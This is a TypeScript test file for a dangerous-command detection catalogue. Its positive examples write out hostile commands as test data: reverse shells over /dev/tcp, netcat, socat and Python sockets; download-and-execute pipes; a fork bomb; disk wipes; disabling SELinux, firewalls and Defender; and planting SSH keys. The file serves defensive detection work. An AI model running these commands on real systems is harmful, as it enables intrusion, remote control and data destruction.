import { describe, expect, it } from "vitest";
import {
  CHMOD_ROOT_TARGET,
  COMMAND_PATTERNS,
  CREDENTIAL_PATH,
  DOWNLOAD_PIPED_TO_SHELL,
  DOWNLOAD_URL,
  NETWORK_SEND,
  POWERSHELL_DOWNLOAD_EXEC,
  READ_COMMAND,
  RM_RECURSIVE_FLAG,
  RM_ROOT_TARGET,
  SHELL_OF_DOWNLOAD,
  WARNING_CONTEXT,
} from "./command-patterns.js";
import { downloadTarget, isTrustedInstaller } from "./trusted-installers.js";

/** One matching and one non-matching example per catalogue entry. */
const EXAMPLES: Readonly<Record<string, readonly [string, string]>> = {
  MKFS_DEVICE: ["mkfs.ext4 /dev/sdb1", "mkfs.ext4 ./disk.img"],
  DD_TO_DEVICE: ["dd if=/dev/zero of=/dev/sda", "dd if=/dev/zero of=./swapfile"],
  REDIRECT_TO_DISK: ["cat x > /dev/nvme0n1", "echo x > /dev/null"],
  SHRED_DEVICE: ["shred -n 1 /dev/sdb", "shred secret.txt"],
  FORMAT_DRIVE: ["format C: /q", "format the string"],
  WINDOWS_RECURSIVE_DELETE: ["Remove-Item -Recurse -Force C:\\", "Remove-Item -Recurse .\\dist"],
  FORK_BOMB: [":(){ :|:& };:", ":() { echo hi; }"],
  NAMED_FORK_BOMB: ["bomb() { bomb | bomb & }", "build() { make | tee log & }"],
  BATCH_FORK_BOMB: ["%0|%0", "echo %0"],
  DEV_TCP_INTERACTIVE: ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash -i script.sh"],
  DEV_TCP: ["echo > /dev/tcp/db/5432", "echo > /dev/tty"],
  NETCAT_EXEC: ["nc -e /bin/sh 10.0.0.1 4444", "nc -zv host 443"],
  MKFIFO_SHELL: ["mkfifo /tmp/f; cat /tmp/f | sh -i | nc 10.0.0.1 1 > /tmp/f", "mkfifo /tmp/pipe"],
  SOCAT_EXEC: ["socat tcp:h:1 exec:'bash -li'", "socat tcp-listen:80 tcp:backend:8080"],
  SCRIPT_SOCKET_SHELL: [
    "s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0)",
    "socket.connect(host, port)",
  ],
  POWERSHELL_TCP_CLIENT: [
    "New-Object System.Net.Sockets.TCPClient('h',1)",
    "New-Object System.Net.WebClient",
  ],
  SETENFORCE_OFF: ["setenforce 0", "getenforce"],
  SELINUX_DISABLED: ["SELINUX=disabled", "SELINUX=enforcing"],
  IPTABLES_FLUSH: ["iptables -F", "iptables -L -n"],
  FIREWALL_OFF: ["ufw disable", "ufw allow 443"],
  STOP_SECURITY_SERVICE: ["systemctl stop auditd", "systemctl stop nginx"],
  DEFENDER_OFF: [
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "Set-MpPreference -DisableRealtimeMonitoring $false",
  ],
  ASLR_OFF: ["echo 0 > /proc/sys/kernel/randomize_va_space", "cat /proc/sys/kernel/randomize_va_space"],
  POWERSHELL_ENCODED: ["powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", "powershell -File build.ps1"],
  AUTHORIZED_KEYS_APPEND: ["echo key >> ~/.ssh/authorized_keys", "cat ~/.ssh/authorized_keys"],
};

describe("dangerous-command catalogue", () => {
  it("has an example pair for every entry", () => {
    expect(Object.keys(EXAMPLES).sort()).toEqual(COMMAND_PATTERNS.map((entry) => entry.name).sort());
  });

  it.each(COMMAND_PATTERNS.map((entry) => [entry.name, entry] as const))(
    "%s matches its example only",
    (name, entry) => {
      const [positive, negative] = EXAMPLES[name] ?? ["", ""];
      expect(entry.pattern.test(positive)).toBe(true);
      expect(entry.pattern.test(negative)).toBe(false);
    },
  );
});

describe("dangerous-command patterns", () => {
  it("RM_ROOT_TARGET and RM_RECURSIVE_FLAG", () => {
    expect(RM_ROOT_TARGET.exec("rm -rf /")?.[1]).toBe("-rf ");
    expect(RM_ROOT_TARGET.test("rm -rf /tmp/x")).toBe(false);
    expect(RM_RECURSIVE_FLAG.test("-fR ")).toBe(true);
    expect(RM_RECURSIVE_FLAG.test("-f ")).toBe(false);
  });
  it("CHMOD_ROOT_TARGET", () => {
    expect(CHMOD_ROOT_TARGET.test("chmod -R 777 /")).toBe(true);
    expect(CHMOD_ROOT_TARGET.test("chmod -R 777 ./public")).toBe(false);
  });
  it("DOWNLOAD_PIPED_TO_SHELL, SHELL_OF_DOWNLOAD and POWERSHELL_DOWNLOAD_EXEC", () => {
    expect(DOWNLOAD_PIPED_TO_SHELL.test("curl -s x.example/i | sudo -E bash -")).toBe(true);
    expect(DOWNLOAD_PIPED_TO_SHELL.test("curl -s x.example/i | jq .")).toBe(false);
    expect(SHELL_OF_DOWNLOAD.test('sh -c "$(curl -fsSL x.example/i)"')).toBe(true);
    expect(POWERSHELL_DOWNLOAD_EXEC.test("irm x.example/i.ps1 | iex")).toBe(true);
  });
  it("DOWNLOAD_URL, downloadTarget and isTrustedInstaller", () => {
    expect(DOWNLOAD_URL.exec("curl https://sh.rustup.rs")?.[1]).toBe("sh.rustup.rs");
    expect(downloadTarget("curl --tlsv1.2 -sSf https://sh.rustup.rs")?.host).toBe("sh.rustup.rs");
    expect(
      isTrustedInstaller("curl https://raw.githubusercontent.com/nvm-sh/nvm/v1/install.sh", [
        "raw.githubusercontent.com/nvm-sh/nvm/",
      ]),
    ).toBe(true);
    expect(
      isTrustedInstaller("curl https://raw.githubusercontent.com/evil/nvm-sh/nvm/x.sh", [
        "raw.githubusercontent.com/nvm-sh/nvm/",
      ]),
    ).toBe(false);
  });
  it("CREDENTIAL_PATH, READ_COMMAND and NETWORK_SEND", () => {
    expect(CREDENTIAL_PATH.test("~/.ssh/id_rsa")).toBe(true);
    expect(CREDENTIAL_PATH.test("~/.ssh/id_rsa.pub")).toBe(false);
    expect(READ_COMMAND.test("base64 file")).toBe(true);
    expect(NETWORK_SEND.test("scp a b:")).toBe(true);
  });
  it("WARNING_CONTEXT", () => {
    expect(WARNING_CONTEXT.test("Never run ")).toBe(true);
    expect(WARNING_CONTEXT.test("Now run ")).toBe(false);
  });
});
